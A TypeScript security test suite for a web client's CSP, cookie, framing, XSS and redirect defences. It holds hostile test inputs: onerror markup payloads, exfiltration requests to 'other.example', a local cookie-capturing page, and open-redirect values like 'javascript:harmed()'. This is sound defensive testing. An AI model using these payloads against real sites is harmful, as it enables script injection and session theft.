import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { text } from './harness/texts.ts'
import {
  admin,
  book,
  newBranch,
  newStaff,
  newStudent,
  ok,
  secureUrl,
  unique,
  url,
  visitor,
} from './harness/api.ts'
import { test, type BrowserContext, type Page } from './harness/browser.ts'
import { idle, paths, signIn } from './harness/steps.ts'

/** otherOrigin serves an HTML page on another port, as a page that wants to harm the user, and records the cookies. */
async function otherOrigin(html: string): Promise<{ url: string; cookies: string[]; close: () => void }> {
  const cookies: string[] = []
  const server = createServer((request, response) => {
    if (request.method === 'POST') cookies.push(request.headers.cookie ?? '')
    response.setHeader('Content-Type', 'text/html')
    response.end(html)
  })
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
  const { port } = server.address() as AddressInfo
  return { url: `http://127.0.0.1:${port}/`, cookies, close: () => server.close() }
}

/** kept returns everything that scripts can read from the storage of a page, and its address. */
async function kept(page: Page): Promise<string> {
  const stored = await page.evaluate(async () => {
    const texts = [
      JSON.stringify({ ...localStorage }),
      JSON.stringify({ ...sessionStorage }),
      document.cookie,
    ]
    for (const name of await caches.keys()) {
      const cache = await caches.open(name)
      for (const request of await cache.keys()) {
        texts.push(request.url, await ((await cache.match(request))?.text() ?? ''))
      }
    }
    texts.push(
      ...(await indexedDB.databases()).map((d) => d.name ?? ''),
      JSON.stringify(history.state),
      location.href,
    )
    return texts
  })
  return stored.join('\n')
}

/** record collects the addresses of all requests of a browser, and their tokens. */
function record(context: BrowserContext): { addresses: string[]; tokens: Set<string> } {
  const found = { addresses: [] as string[], tokens: new Set<string>() }
  context.on('request', (r) => {
    found.addresses.push(r.url())
    const token = /^Bearer (.+)$/.exec(r.headers()['authorization'] ?? '')?.[1]
    if (token !== undefined) found.tokens.add(token)
  })
  return found
}

test('each page has a strict policy, and no other header is missing', async () => {
  for (const path of [
    ...paths.visitor,
    ...paths.staff,
    ...paths.librarian,
    '/screen',
    '/c/ABC',
    '/s/ABC',
    '/C/ABC',
  ]) {
    const response = await fetch(url + path, { headers: { Accept: 'text/html' } })
    assert.equal(response.status, path === '/nothing' ? 404 : 200, path)
    const policy = response.headers.get('Content-Security-Policy') ?? ''
    const rules = new Map(policy.split(';').map((r) => [r.trim().split(' ')[0] ?? '', r.trim()]))
    for (const rule of [
      "default-src 'none'",
      "script-src 'self'",
      "style-src 'self'",
      "connect-src 'self'",
      "img-src 'self'",
      "base-uri 'none'",
      "form-action 'none'",
      "frame-ancestors 'none'",
      "require-trusted-types-for 'script'",
    ]) {
      assert.equal(rules.get(rule.split(' ')[0] ?? ''), rule, path)
    }
    assert.doesNotMatch(policy, /unsafe|\*|http:|data:/, path)
    assert.equal(response.headers.get('X-Content-Type-Options'), 'nosniff', path)
    assert.equal(response.headers.get('Referrer-Policy'), 'no-referrer', path)
    assert.match(response.headers.get('Permissions-Policy') ?? '', /camera=\(self\)/, path)
    const body = await response.text()
    assert.doesNotMatch(
      body,
      /<script(?![^>]*\bsrc=)|<style|\son\w+=|\sstyle=/i,
      `${path} has inline code or style`,
    )
  }
})

test('the browser refuses scripts that the page does not have', async (b) => {
  const page = await b.page({
    allow: [/Content Security Policy|TrustedScriptURL|TrustedHTML|TrustedScript\b/i],
  })
  await page.goto('/login')
  await idle(page)
  const refused = await page.evaluate(async () => {
    const violations: string[] = []
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective))
    const thrown: string[] = []
    const attempt = (f: () => void): void => {
      try {
        f()
      } catch (e) {
        thrown.push((e as Error).name)
      }
    }
    attempt(() => (document.body.innerHTML += '<img src=x onerror="window.harmed = true">'))
    attempt(() => {
      const script = document.createElement('script')
      script.textContent = 'window.harmed = true'
      document.body.append(script)
    })
    attempt(() => setTimeout('window.harmed = true' as never))
    attempt(() => {
      const image = new Image()
      image.src = 'https://other.example/?stolen'
    })
    await fetch('https://other.example/?stolen').catch(() => thrown.push('fetch'))
    while (!violations.includes('img-src') || !violations.includes('connect-src')) {
      await new Promise((done) => document.addEventListener('securitypolicyviolation', done, { once: true }))
    }
    return { thrown, violations, harmed: 'harmed' in window }
  })
  assert.equal(refused.harmed, false)
  assert.equal(refused.thrown.filter((n) => n === 'TypeError').length, 3, `thrown: ${refused.thrown.join()}`)
  assert.ok(refused.violations.includes('connect-src'), `violations: ${refused.violations.join()}`)
  assert.ok(refused.violations.includes('img-src'), `violations: ${refused.violations.join()}`)
})

test('a page of another origin cannot show the client in a frame', async (b) => {
  const other = await otherOrigin(`<h1>win a prize</h1><iframe src="${url}/settings"></iframe>`)
  try {
    const page = await b.page({ as: await newStudent(), allow: [/frame-ancestors|X-Frame-Options/] })
    const asked = page.waitForResponse((r) => r.url().endsWith('/settings'))
    await page.goto(other.url)
    await asked
    await page.waitForLoadState('networkidle')
    const frame = page.frames()[1]
    assert.ok(frame !== undefined)
    assert.match(frame.url(), /^chrome-error:/)
    assert.equal(await frame.locator('#app').count(), 0)
  } finally {
    other.close()
  }
})

for (const secure of [false, true]) {
  test(`the token is nowhere that scripts can read, over ${secure ? 'HTTPS' : 'HTTP on this machine'}`, async (b) => {
    const student = await newStudent()
    const page = await b.page({ secure })
    const { addresses, tokens } = record(page.context())
    await signIn(page, student, { stay: true })
    await page.goto('/me')
    await page.getByRole('banner').getByRole('link', { name: student.name }).waitFor()
    assert.ok(tokens.size > 0)
    const seen = await kept(page)
    for (const token of tokens) {
      for (const part of token.split('.')) {
        assert.ok(!seen.includes(part), `the storage has the token: ${seen.slice(0, 500)}`)
        assert.ok(!addresses.some((a) => a.includes(part)), 'an address has the token')
      }
    }
    assert.ok(!seen.includes(student.password))
    assert.ok(!addresses.some((a) => a.includes(student.password)))
    const origin = secure ? secureUrl() : url
    assert.deepEqual(
      addresses.filter((a) => !a.startsWith(origin)),
      [],
      'requests to other servers',
    )

    const cookies = await page.context().cookies()
    assert.equal(cookies.length, 1)
    const [cookie] = cookies
    assert.equal(cookie?.name, secure ? '__Host-dlsms' : 'dlsms')
    assert.equal(cookie?.httpOnly, true)
    assert.equal(cookie?.secure, secure)
    assert.equal(cookie?.sameSite, 'Strict')
    assert.equal(cookie?.path, '/')
    assert.ok((cookie?.expires ?? 0) > Date.now() / 1000 + 3600)

    await page.goto('/settings')
    await page.getByRole('button', { name: text.account.signOutHere }).click()
    await page.getByRole('banner').getByRole('link', { name: text.common.signIn }).waitFor()
    assert.deepEqual(await page.context().cookies(), [])
    await page.reload()
    await page.getByRole('banner').getByRole('link', { name: text.common.signIn }).waitFor()
  })
}

test('without "stay signed in" there is no cookie, and a reload ends the session', async (b) => {
  const page = await b.page()
  await signIn(page, await newStudent())
  assert.deepEqual(await page.context().cookies(), [])
  await page.reload()
  await page.getByRole('banner').getByRole('link', { name: text.common.signIn }).waitFor()
})

test('a page of another origin gets nothing from the cookie', async (b) => {
  const other = await otherOrigin('<h1>win a prize</h1>')
  const third = await otherOrigin('')
  try {
    const student = await newStudent()
    const page = await b.page({ as: student, allow: [/CORS policy|ERR_FAILED|status of 403|favicon\.ico/] })
    await page.goto(other.url) // another port of the same host, to which the browser sends the cookie
    await page.evaluate(
      (a) => fetch(a, { method: 'POST', credentials: 'include', mode: 'no-cors' }),
      third.url,
    )
    assert.match(third.cookies.join(), /dlsms=/, 'the browser sends no cookie: this test proves nothing')
    for (const path of ['/v1/auth/session:resume', '/v1/auth/session:end', '/v1/auth/session']) {
      const arrived = page.waitForResponse((r) => r.url() === url + path)
      const read = await page.evaluate(async (address) => {
        const post = async (mode: RequestMode): Promise<string> => {
          const response = await fetch(address, { method: 'POST', credentials: 'include', mode })
          return response.text()
        }
        return (await post('no-cors').catch(() => '')) + (await post('cors').catch(() => ''))
      }, url + path)
      assert.equal((await arrived).status(), 403, path)
      assert.equal(read, '', path)
    }
    const form = await page.evaluate((address) => {
      const f = document.createElement('form')
      f.method = 'post'
      f.action = address
      document.body.append(f)
      f.submit()
      return address
    }, `${url}/v1/auth/session:end`)
    await page.waitForURL(form)
    assert.equal((await page.context().cookies()).length, 1, 'another page has ended the session')
    await page.goto(`${url}/me`)
    await page.getByRole('banner').getByRole('link', { name: student.name }).waitFor()
  } finally {
    other.close()
    third.close()
  }
})

test('a token in a cookie does not authorize a call of the API', async () => {
  const { token } = await newStudent()
  const response = await fetch(`${url}/v1/standing`, {
    headers: { Cookie: `dlsms=${token}; __Host-dlsms=${token}` },
  })
  assert.equal(response.status, 401)
})

test('markup in names and notes is text', async (b) => {
  const markup = (n: string): string => `<img src=x onerror="harmed()"><b>${n}</b>`
  const branch = await newBranch({ name: markup('Branch'), seats: 2, areas: [markup('Area')] })
  const { api } = await admin()
  await ok(
    api.POST('/v1/admin/branches/{branch}/announcement', {
      params: { path: { branch: branch.code } },
      body: { text: { en: markup('News') } },
    }),
  )
  const student = await newStudent(markup('Student'))
  const seat = branch.seats[0]
  assert.ok(seat !== undefined)
  await book(student, seat.id, { start: 600 })

  const check = async (page: Page, path: string, expected: readonly string[]): Promise<void> => {
    await page.goto(path)
    await idle(page)
    for (const t of expected) await page.getByText(t).first().waitFor({ state: 'attached' })
    assert.equal(await page.locator('img[src=x]').count(), 0, `${path} has an element of the markup`)
    assert.equal(
      await page
        .locator('b')
        .filter({ hasText: /^(Branch|Area|News|Student)$/ })
        .count(),
      0,
      path,
    )
  }
  const page = await b.page({ as: student })
  await check(page, `/?branch=${branch.code}`, [markup('News'), markup('Area'), markup('Student')])
  await check(page, '/me', [markup('Student')])
  await check(page, '/settings', [markup('Student')])

  const staff = await b.page({ as: await newStaff('ROLE_LIBRARIAN', [branch.code]) })
  await check(staff, `/admin/seats?branch=${branch.code}`, [markup('Area')])
  await check(staff, `/admin/announcement?branch=${branch.code}`, [markup('News')])
})

test('a link to sign in leads to no other server', async (b) => {
  const student = await newStudent()
  for (const next of [
    '//other.example/',
    'https://other.example/',
    '/\\other.example',
    'javascript:harmed()',
  ]) {
    const page = await b.page()
    await signIn(page, student, { next })
    assert.equal(new URL(page.url()).origin, url, next)
    await page.close()
  }
})

test('the log of a replica has no token and no code', async () => {
  const log = process.env['DLSMS_STACK_LOG']
  assert.ok(log !== undefined, 'run this test without DLSMS_URL')
  const secret = unique('secret-')
  const student = await newStudent('Robin Example', secret)
  const code = unique('CODE').toUpperCase()
  await fetch(`${url}/c/${code}`, { headers: { Accept: 'text/html' } })
  const headers = { Origin: url, Cookie: `dlsms=${student.token}` }
  await fetch(`${url}/v1/auth/session:resume`, { method: 'POST', headers })
  // A call that fails is in the log, with its id.
  const marker = await visitor.GET('/v1/standing')
  assert.equal(marker.response.status, 401)
  const written = readFileSync(log, 'utf8')
  assert.ok(written.includes('"starting"'))
  for (const text of [student.token.slice(-30), code, secret])
    assert.ok(!written.includes(text), `the log has ${text}`)
})
